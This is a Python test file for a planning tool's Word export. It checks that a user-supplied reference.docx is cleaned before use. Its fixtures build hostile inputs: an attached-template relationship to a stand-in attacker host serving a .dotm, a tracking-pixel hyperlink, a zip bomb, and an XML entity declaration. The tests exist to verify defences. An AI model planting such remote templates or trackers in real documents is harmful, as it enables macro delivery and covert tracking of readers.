"""The Word reference document: the styles the exports rely on, and the shipped copy is current."""

from __future__ import annotations

import io

from docx import Document
from docx.enum.style import WD_STYLE_TYPE
from docx.shared import Cm

from govplanner.export.docx_writer import TABLE_STYLE
from govplanner.export.reference_doc import build_reference
from govplanner.export.templating import shipped_templates_dir

NEEDED = (
    "Title", "Subtitle", "Heading 1", "Heading 2", "Heading 3", "List Bullet",
    "List Bullet 2", "List Number", "Kicker", "Note", "Colophon", "Normal", "Footer",
)  # fmt: skip


def _styles(data: bytes) -> dict[str, WD_STYLE_TYPE]:
    doc = Document(io.BytesIO(data))
    return {s.name: s.type for s in doc.styles if s.name}


def test_reference_has_every_style_the_exports_use() -> None:
    styles = _styles(build_reference())
    for name in NEEDED:
        assert styles.get(name) == WD_STYLE_TYPE.PARAGRAPH, name
    assert styles.get(TABLE_STYLE) == WD_STYLE_TYPE.TABLE


def test_reference_is_a4_with_an_empty_body() -> None:
    doc = Document(io.BytesIO(build_reference()))
    section = doc.sections[0]
    assert abs(section.page_width - Cm(21.0)) < Cm(0.01)
    assert abs(section.page_height - Cm(29.7)) < Cm(0.01)
    assert all(not p.text for p in doc.paragraphs)
    assert not doc.tables


def test_shipped_reference_is_the_generated_one() -> None:
    shipped = (shipped_templates_dir() / "reference.docx").read_bytes()
    assert _styles(shipped) == _styles(build_reference()), (
        "templates/reference.docx is out of date: run python -m govplanner.export.reference_doc"
    )
    doc = Document(io.BytesIO(shipped))
    assert doc.styles["Heading 1"].font.name == "Arial"


# -- a user's reference.docx (issue 16) ---------------------------------------------------------

import re  # noqa: E402
import zipfile  # noqa: E402
from pathlib import Path  # noqa: E402

import pytest  # noqa: E402

from govplanner.domain.errors import TemplateRenderError  # noqa: E402
from govplanner.export import reference_clean  # noqa: E402
from govplanner.export.roles import export_role_descriptions  # noqa: E402
from tests.export.plans import partnership  # noqa: E402

_ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
_HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


def _rewrite(data: bytes, changes: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            target.writestr(item, changes.pop(item.filename, source.read(item)))
        for name, blob in changes.items():
            target.writestr(name, blob)
    return out.getvalue()


def _hostile_reference() -> bytes:
    """The shipped reference plus what a reference from elsewhere may carry."""
    data = (shipped_templates_dir() / "reference.docx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        settings = archive.read("word/settings.xml").decode()
        footer = archive.read("word/footer1.xml").decode()
    settings = settings.replace("<w:zoom", '<w:attachedTemplate r:id="rIdT1"/><w:zoom', 1)
    assert "attachedTemplate" in settings
    footer = footer.replace(
        "</w:p>",
        '<w:hyperlink r:id="rIdH1"><w:r><w:t>home</w:t></w:r></w:hyperlink></w:p>',
        1,
    )
    rels = "http://schemas.openxmlformats.org/package/2006/relationships"
    return _rewrite(
        data,
        {
            "word/settings.xml": settings.encode(),
            "word/_rels/settings.xml.rels": (
                f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{rels}">'
                f'<Relationship Id="rIdT1" Type="{_ATTACHED}" '
                'Target="https://attacker.example/template.dotm" TargetMode="External"/>'
                "</Relationships>"
            ).encode(),
            "word/footer1.xml": footer.encode(),
            "word/_rels/footer1.xml.rels": (
                f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{rels}">'
                f'<Relationship Id="rIdH1" Type="{_HYPERLINK}" '
                'Target="https://tracker.example/pixel" TargetMode="External"/>'
                "</Relationships>"
            ).encode(),
        },
    )


def test_a_users_reference_lends_styles_but_no_external_relationships(tmp_path: Path) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "reference.docx").write_bytes(_hostile_reference())
    written = export_role_descriptions(partnership(), tmp_path / "out", template_dir=folder)
    assert written
    with zipfile.ZipFile(written[0]) as archive:
        everything = b"".join(archive.read(n) for n in archive.namelist())
        names = archive.namelist()
    assert b"attacker.example" not in everything
    assert b"tracker.example" not in everything
    assert b"attachedTemplate" not in everything
    assert b'TargetMode="External"' not in everything
    assert not [n for n in names if n.startswith("customXml/")]
    styles = _styles(written[0].read_bytes())
    assert styles.get("Heading 1") == WD_STYLE_TYPE.PARAGRAPH  # still styled by the reference


def test_a_cleaned_reference_keeps_its_footer_and_page_setup() -> None:
    cleaned = reference_clean.clean_reference(_hostile_reference())
    doc = Document(io.BytesIO(cleaned))
    assert "Page" in doc.sections[0].footer.paragraphs[0].text
    original = Document(shipped_templates_dir() / "reference.docx")
    assert doc.sections[0].page_width == original.sections[0].page_width
    assert not re.search(rb"r:id=\"rIdH1\"", cleaned)


def _bomb(size: int) -> bytes:
    data = (shipped_templates_dir() / "reference.docx").read_bytes()
    return _rewrite(data, {"word/media/padding.png": b"\0" * size})


@pytest.mark.parametrize(
    ("limit", "value", "says"),
    [
        ("MAX_UNCOMPRESSED_BYTES", 2 * 1024 * 1024, "unpacks to more than 2 MB"),
        ("MAX_ZIP_ENTRIES", 5, "more than 5 parts"),
    ],
)
def test_zip_bomb_limits_name_the_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, limit: str, value: int, says: str
) -> None:
    monkeypatch.setattr(reference_clean, limit, value)
    path = tmp_path / "reference.docx"
    path.write_bytes(_bomb(3 * 1024 * 1024))  # 3 MB of zeros compress to a few kilobytes
    assert path.stat().st_size < 100_000
    with pytest.raises(TemplateRenderError, match=says) as caught:
        reference_clean.read_reference(path)
    assert "not a Word document" not in str(caught.value)


def test_a_reference_too_large_to_read_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reference_clean, "MAX_FILE_BYTES", 1024 * 1024)
    path = tmp_path / "reference.docx"
    path.write_bytes(b"PK" + b"x" * (2 * 1024 * 1024))
    with pytest.raises(TemplateRenderError, match="larger than 1 MB"):
        reference_clean.read_reference(path)


def test_a_reference_with_entity_declarations_is_refused() -> None:
    data = (shipped_templates_dir() / "reference.docx").read_bytes()
    hostile = _rewrite(
        data,
        {
            "word/styles.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>',
        },
    )
    with pytest.raises(TemplateRenderError, match="DTD or entity declarations"):
        reference_clean.clean_reference(hostile)
